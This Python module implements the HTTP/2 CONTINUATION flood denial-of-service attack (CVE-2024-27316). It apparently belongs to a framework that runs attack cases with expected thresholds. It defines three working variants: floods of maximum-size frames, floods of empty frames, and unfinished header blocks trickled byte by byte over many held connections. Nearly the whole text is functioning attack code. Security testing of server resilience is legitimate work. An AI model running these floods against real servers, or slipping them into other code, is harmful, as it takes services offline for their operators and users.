"""Heads that go on in CONTINUATION frames and never end: at full speed, of empty frames, and of as
many bytes as are held without an error."""

from lib.attack import HTTP2, Attack, Case
from lib.frames import CONTINUATION, HEADERS, LARGEST_FRAME, frame, get, literal

CONNECTIONS = 16
# All that a client may have.
HELD = 256
FIELD = literal(b"x-flood", b"v" * 32)
PIECE = FIELD * (LARGEST_FRAME // len(FIELD))
START = frame(HEADERS, 0, 1, get())


def flood(attacker, piece):
    """Sends this piece of a head again and again."""
    def begin(at):
        wire = attacker.http2(at=at)
        if wire:
            wire.send(START)
        return wire

    attacker.pour(CONNECTIONS, begin, frame(CONTINUATION, 0, 1, piece))


def large(attacker):
    flood(attacker, PIECE)


def empty(attacker):
    flood(attacker, b"")


def unfinished(attacker):
    """A frame and most of another on each connection, and the rest of that byte by byte."""
    last = frame(CONTINUATION, 0, 1, PIECE)
    block = START + frame(CONTINUATION, 0, 1, PIECE) + last[:15_000]

    def begin(at):
        wire = attacker.http2(at=at)
        if wire and wire.send(block):
            attacker.count("heads")
        return wire

    def another(wire, _):
        attacker.pause(0.005)
        return b"v"

    attacker.flood(HELD, begin, another, "bytes")


ATTACK = Attack(
    title="CONTINUATION flood",
    published="CVE-2024-27316",
    cases=(
        Case("large frames", HTTP2, large, {"frames": 2_000}),
        Case("empty frames", HTTP2, empty, {"frames": 100_000}),
        Case("unfinished heads", HTTP2, unfinished, {"heads": HELD}),
    ),
)
